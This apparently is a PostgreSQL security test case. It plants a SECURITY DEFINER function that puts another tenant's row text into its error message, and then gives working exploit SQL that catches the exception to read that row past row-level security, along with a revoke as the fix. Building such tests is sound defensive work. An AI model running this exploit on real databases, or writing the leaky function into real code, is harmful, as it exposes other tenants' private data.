-- What: It answers yes or no, and the exception that it raises says what the row holds.
-- Class: function_definer
-- Object: public.is_free
-- Exploit: Ask for what is taken, and read the message.
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create function is_free(p_id bigint) returns boolean language plpgsql security definer set search_path = public, pg_temp as $$
begin
  if exists (select from items where id = p_id) then
    raise exception 'taken by %', (select body from items where id = p_id);
  end if;
  return true;
end $$;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke execute on function is_free(bigint) from public;
-- @control
select from items where tenant_id = :'A';
-- @exploit
create function pg_temp.message() returns text language plpgsql as $$
begin
  perform is_free(n) from generate_series(2, 2) n;
  return null;
exception when others then
  return sqlerrm;
end $$;
select m from pg_temp.message() m where m like '%B-secret%';
